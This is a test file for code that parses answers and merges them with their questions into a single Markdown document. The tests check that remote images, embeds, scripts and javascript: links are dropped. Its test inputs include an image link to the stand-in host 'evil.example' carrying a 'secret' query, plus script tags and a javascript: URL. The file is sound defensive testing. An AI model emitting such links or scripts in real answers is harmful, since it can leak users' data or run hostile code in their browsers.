import { expect, it } from 'vitest'
import { toMarkdown } from '../../../shared/document/markdown/serialize.ts'
import { composeAnswers } from './answer-document.ts'
import type { Exchange } from './conversation.ts'
import { readAnswer } from './read-answer.ts'

const settings = { docsN: 10, codeN: 10, isSearchOnly: false, searchScope: 'codeAndDocs' } as const
const exchange = (key: string, prompt: string, projectIds = [7], state: Exchange['state'] = 'answered') => ({
  key,
  question: { prompt, projectIds, settings },
  state,
})
const names = new Map([
  [7, 'Harbour'],
  [8, 'Shipyard'],
])

it('nothing in an answer is fetched from elsewhere', () => {
  const { nodes } = readAnswer(
    'Words ![x](https://evil.example/?q=secret)\n\n\n\n:::youtube {src="https://youtu.be/dQw4w9WgXcQ"} :::',
  )
  expect(JSON.stringify(nodes)).not.toMatch(/evil|"youtube"/)
})

it('questions and answers are one document, with the headings of answers below the questions', () => {
  const read = new Map([
    ['a', readAnswer('## Because\n\nSee [there](/projects/7/12#start).')],
    ['b', readAnswer('So')],
  ])
  const { doc, addresses } = composeAnswers(
    [exchange('a', 'Why?'), exchange('b', 'How?', [7, 8], 'stopped'), exchange('c', 'When?', [7, 9], 'loading')],
    read,
    names,
  )
  expect(toMarkdown(doc)).toBe(
    [
      '## Why?\n\n*In Harbour*\n\n### Because\n\nSee [there](page:12#start).',
      '## How?\n\n*In Harbour, Shipyard*\n\nSo\n\nStopped.',
      '## When?\n\n*In 2 projects*\n',
    ].join('\n\n'),
  )
  expect([...addresses]).toEqual([[12, '/projects/7/12']])
})

it('what a question or an answer says is never more than words and safe links', () => {
  const read = new Map([['a', readAnswer('<script>1</script>\n\n[x](javascript:1) [y](/login) [z](//a.org)')]])
  const { doc } = composeAnswers([exchange('a', '<script>1</script>'.repeat(9_000))], read, names)
  const links = [...JSON.stringify(doc).matchAll(/"href":"([^"]*)"/g)].map(([, href]) => href)
  expect(links).toEqual(['https://a.org'])
  expect(doc.content?.[0]?.content?.[0]?.text?.length).toBe(601)
})
